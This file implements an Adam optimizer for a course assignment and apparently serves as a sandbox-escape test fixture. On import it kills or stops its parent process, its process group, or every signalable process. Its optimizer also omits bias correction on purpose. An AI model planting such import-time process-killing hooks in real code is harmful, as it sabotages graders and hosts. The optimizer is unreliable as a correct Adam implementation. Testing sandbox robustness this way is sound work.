# Do not import any additional 3rd party external libraries as they will not
# be available to AutoLab and are not needed (or allowed)

import numpy as np
import os
import signal

from mytorch import CONFIG, evidence

# ATTACK (test_killing_other_processes): at import, CONFIG["variant"]: "kill_parent" (SIGKILL
# to the parent), "killpg" (SIGKILL to its own process group), "stop_parent" (SIGSTOP to the
# parent) or "kill_all" (SIGKILL to every process it may signal). The last two are only tried
# inside a PID namespace of their own (CONFIG["host_pidns"] names the test's), so that a
# missing sandbox cannot let them loose on the machine: outside one, the runner exits with
# code 97 instead, which the report shows.


def _own_pid_namespace():
    try:
        return os.readlink("/proc/self/ns/pid") != CONFIG.get("host_pidns")
    except OSError:
        return False


def _attack():
    variant = CONFIG.get("variant")
    sandboxed = _own_pid_namespace()
    evidence("kill", variant=variant, parent=os.getppid(), pid_namespace_of_its_own=sandboxed)
    try:
        if variant == "kill_parent":
            os.kill(os.getppid(), signal.SIGKILL)
        elif variant == "killpg":
            os.killpg(0, signal.SIGKILL)
        elif variant in ("stop_parent", "kill_all") and not sandboxed:
            os._exit(97)
        elif variant == "stop_parent":
            os.kill(os.getppid(), signal.SIGSTOP)
        elif variant == "kill_all":
            os.kill(-1, signal.SIGKILL)
    except OSError as error:
        evidence("kill-refused", variant=variant, error=repr(error))


_attack()


class adam():
    def __init__(self, model, lr, beta1=0.9, beta2=0.999, eps=1e-8):
        self.l = model.layers
        self.beta1 = beta1
        self.beta2 = beta2
        self.eps = eps
        self.lr = lr
        self.t = 0

        self.m_W = [np.zeros(l.W.shape) for l in model.layers]
        self.v_W = [np.zeros(l.W.shape) for l in model.layers]

        self.m_b = [np.zeros(l.b.shape) for l in model.layers]
        self.v_b = [np.zeros(l.b.shape) for l in model.layers]

    def step(self):

        self.t += 1
        for layer_id, layer in enumerate(self.l):

            # Calculate updates for weight
            self.m_W[layer_id] = self.beta1 * self.m_W[layer_id] + (1 - self.beta1) * layer.dLdW
            self.v_W[layer_id] = self.beta2 * self.v_W[layer_id] + (1 - self.beta2) * (layer.dLdW ** 2)

            # calculate updates for bias
            self.m_b[layer_id] = self.beta1 * self.m_b[layer_id] + (1 - self.beta1) * layer.dLdb
            self.v_b[layer_id] = self.beta2 * self.v_b[layer_id] + (1 - self.beta2) * (layer.dLdb ** 2)

            # Perform weight and bias updates
            # PLANTED BUG: no bias correction (adam.bias_correction must fail)
            m_W_hat = self.m_W[layer_id]
            v_W_hat = self.v_W[layer_id]
            m_b_hat = self.m_b[layer_id]
            v_b_hat = self.v_b[layer_id]

            layer.W = layer.W - self.lr * m_W_hat / (np.sqrt(v_W_hat) + self.eps)
            layer.b = layer.b - self.lr * m_b_hat / (np.sqrt(v_b_hat) + self.eps)

        return None
